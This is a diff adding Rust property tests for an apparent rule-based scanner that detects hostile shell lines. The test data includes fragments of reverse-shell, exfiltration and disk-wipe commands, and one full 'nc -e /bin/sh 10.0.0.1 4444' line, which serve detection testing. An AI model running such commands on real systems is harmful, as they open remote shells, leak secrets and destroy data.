@@ -317,3 +317,148 @@ fn reading_credentials_then_sending_is_critical_but_reading_alone_is_not() {
         "loopback is not exfiltration"
     );
 }
+
+/// Whole-word keywords only narrow which rules run their regex, never what matches: on lines made
+/// of keyword pieces, punctuation and letters, every flagged rule whose regex (and no exemption)
+/// matches still fires.
+mod whole_word_keywords {
+    use super::*;
+    use proptest::prelude::*;
+    use regex_automata::meta::Regex;
+
+    const PIECES: &[&str] = &[
+        "nc",
+        "ncat",
+        "netcat",
+        "sync",
+        "mkfifo",
+        "-e",
+        "-c",
+        " ",
+        " ",
+        " ",
+        "\t",
+        "|",
+        "sh",
+        "bash",
+        "/bin/",
+        "curl",
+        "wget",
+        "iwr",
+        "http://1.2.3.4/x",
+        "https://evil.example/i.sh",
+        "host",
+        "localhost",
+        "dig",
+        "nslookup",
+        "$X.evil.com",
+        "${T}.a.io",
+        "eval",
+        "exec",
+        "function",
+        "Function",
+        "(",
+        ")",
+        "atob",
+        "b64decode",
+        "sudo",
+        "mkfs",
+        ".ext4",
+        "/dev/sda",
+        "npm",
+        "pnpm",
+        "install",
+        "add",
+        "https://x.io/p.tgz",
+        "-o",
+        "-O",
+        "a.sh",
+        "&&",
+        ";",
+        "chmod +x",
+        "./a",
+        "a",
+        "x",
+        "_",
+        "'",
+        "\"",
+        "-d",
+        "--data",
+        "$TOKEN",
+        "$API_KEY",
+        "-F",
+        "file=@",
+        "/tmp/",
+        "--upload-file",
+        "-T",
+        "?q=",
+        "un",
+    ];
+
+    type Compiled = Vec<(usize, Regex, Vec<Regex>)>;
+
+    /// The flagged rules' regexes and exemptions, compiled once.
+    fn flagged() -> &'static Compiled {
+        static F: std::sync::OnceLock<Compiled> = std::sync::OnceLock::new();
+        F.get_or_init(|| {
+            let set = RuleSet::builtin();
+            set.rules
+                .iter()
+                .enumerate()
+                .filter(|(_, r)| r.whole_word_keywords)
+                .map(|(i, r)| {
+                    let unless = r
+                        .unless
+                        .iter()
+                        .map(|u| rules::line_regex(u).unwrap())
+                        .collect();
+                    (i, rules::line_regex(&r.pattern).unwrap(), unless)
+                })
+                .collect()
+        })
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(2000))]
+        #[test]
+        fn never_lose_a_match(pieces in prop::collection::vec(prop::sample::select(PIECES), 1..14)) {
+            let line: String = pieces.concat();
+            let set = RuleSet::builtin();
+            for in_code in [true, false] {
+                let fired: Vec<usize> = set.scan_line(&line, in_code).iter().map(|h| h.rule).collect();
+                for (i, regex, unless) in flagged() {
+                    let (i, r) = (*i, &set.rules[*i]);
+                    let scope_ok = match r.scope {
+                        rules::Scope::Any => true,
+                        rules::Scope::Code => in_code,
+                        rules::Scope::Prose => !in_code,
+                    };
+                    let exempt = unless.iter().any(|u| u.is_match(line.as_bytes()));
+                    if scope_ok && regex.is_match(line.as_bytes()) && !exempt {
+                        prop_assert!(fired.contains(&i), "{} lost on {:?}", r.id, line);
+                    }
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn a_keyword_inside_a_word_is_no_candidate() {
+        let set = RuleSet::builtin();
+        let netcat = set
+            .rules
+            .iter()
+            .position(|r| r.id == "network.netcat-exec")
+            .unwrap();
+        let candidates = |line: &str| {
+            let mut out = Vec::new();
+            for k in set.keywords_in(line) {
+                set.add_candidates(line, k, &mut out);
+            }
+            out
+        };
+        assert!(!candidates("function sync() { return once; }").contains(&netcat));
+        assert!(candidates("nc -e /bin/sh 10.0.0.1 4444").contains(&netcat));
+        assert!(candidates("x|nc 10.0.0.1 9").contains(&netcat));
+    }
+}
